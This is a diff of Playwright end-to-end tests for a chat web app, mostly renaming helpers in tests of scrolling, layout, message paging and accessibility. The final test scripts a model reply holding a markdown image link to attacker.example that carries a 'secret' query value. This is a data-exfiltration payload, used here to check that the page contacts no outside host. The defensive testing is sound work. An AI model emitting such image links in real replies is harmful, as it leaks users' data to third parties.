@@ -7,8 +7,8 @@ from typing import Any
 import pytest
 from playwright.sync_api import Browser, Request, expect
 
-from tests.e2e.chatting import Person, left_below, person, position
-from tests.e2e.watching import FITS, NAMELESS, NARROW, WIDE
+from tests.e2e.chatting import Person, person, pixels_below, position
+from tests.e2e.watching import FITS_WIDTH, NARROW, UNNAMED_CONTROLS, WIDE
 from tests.endpoint import Model, Script
 from tests.installation import Installation
 from tests.waiting import until
@@ -20,31 +20,31 @@ LONG = tuple(f"Paragraph {number} of many, with words.\n\n" for number in range(
 def test_the_end_is_followed_and_the_scroll_never_stolen(keeper: Person, model: Model) -> None:
     page = keeper.page
     model.script = Script(pieces=LONG, pause=0.02, gate_at=45)
-    keeper.ask_anew("Much")
+    keeper.ask_in_new_chat("Much")
     expect(keeper.words).to_contain_text("Paragraph 44")
-    until(lambda: left_below(page) <= 1, 60, "the end to be in view")
+    until(lambda: pixels_below(page) <= 1, 60, "the end to be in view")
     page.locator("[data-scroller]").hover()
     page.mouse.wheel(0, -600)
-    until(lambda: left_below(page) > 300, 60, "the reader to be above")
+    until(lambda: pixels_below(page) > 300, 60, "the reader to be above")
     jump = page.get_by_role("button", name="Jump to the end")
     expect(jump).to_be_visible()
     before = position(page)
     model.gate.set()
-    keeper.is_over()
+    keeper.wait_for_end()
     assert position(page) == before
     jump.click()
-    until(lambda: left_below(page) <= 1, 60, "the end")
+    until(lambda: pixels_below(page) <= 1, 60, "the end")
     expect(jump).to_be_hidden()
 
 
 def test_nothing_moves_when_the_answer_ends(keeper: Person, model: Model) -> None:
     model.script = Script(pieces=("Almost", " done."), gate_at=2)
-    keeper.ask_anew("Still?")
+    keeper.ask_in_new_chat("Still?")
     expect(keeper.words).to_have_text("Almost done.")
     expect(keeper.prompts.get_by_role("button", name="Edit this message")).to_be_visible()
     before = (keeper.answers.bounding_box(), keeper.words.bounding_box())
     model.gate.set()
-    keeper.is_over()
+    keeper.wait_for_end()
     assert (keeper.answers.bounding_box(), keeper.words.bounding_box()) == before
 
 
@@ -52,8 +52,8 @@ def test_earlier_messages_of_a_long_chat_stay_while_it_goes_on(
     keeper: Person, model: Model
 ) -> None:
     model.script = Script(pieces=("Yes.",))
-    keeper.ask_anew("Number 0")
-    keeper.is_over()
+    keeper.ask_in_new_chat("Number 0")
+    keeper.wait_for_end()
     chat = keeper.page.url.rsplit("/", 1)[-1]
     with keeper.installation.api() as api:
         for number in range(1, 33):
@@ -63,7 +63,7 @@ def test_earlier_messages_of_a_long_chat_stay_while_it_goes_on(
     expect(keeper.page.get_by_role("link", name="Show 6 earlier messages")).to_be_visible()
     keeper.ask("Number 33")
     expect(keeper.answers).to_have_count(31)
-    keeper.is_over()
+    keeper.wait_for_end()
     expect(keeper.answers).to_have_count(31)
     keeper.page.get_by_role("link", name="Show 6 earlier messages").click()
     expect(keeper.answers).to_have_count(34)
@@ -88,12 +88,12 @@ def test_pages_fit_and_every_control_has_a_name_and_is_reached(
     model.script = Script(pieces=(wide, "```\n" + "z" * 400 + "\n```\n\n", "w" * 300))
     with person(browser, club, model, session, viewport) as somebody:
         page = somebody.page
-        somebody.ask_anew("q" * 200)
-        somebody.is_over()
+        somebody.ask_in_new_chat("q" * 200)
+        somebody.wait_for_end()
         for path in ("/chats", "/chats/new", "/chats?archived=1", page.url):
             page.goto(path if "://" in path else club.url + path)
-            assert page.evaluate(FITS), path
-            assert page.evaluate(NAMELESS) == [], path
+            assert page.evaluate(FITS_WIDTH), path
+            assert page.evaluate(UNNAMED_CONTROLS) == [], path
         names = ("Message", "Options of this chat", "Copy the answer", "Edit this message")
         wanted, reached = {f"true {name}" for name in names}, set()
         for pressed in range(1, 400):  # the list of chats is long where other tests have chatted
@@ -119,6 +119,6 @@ def test_the_page_asks_nothing_of_anybody_else(keeper: Person, model: Model) -> 
 
     keeper.page.on("request", note)
     model.script = Script(pieces=("![x](https://attacker.example/p.png?q=secret)",))
-    keeper.ask_anew("Picture?")
-    keeper.is_over()
+    keeper.ask_in_new_chat("Picture?")
+    keeper.wait_for_end()
     assert asked == []
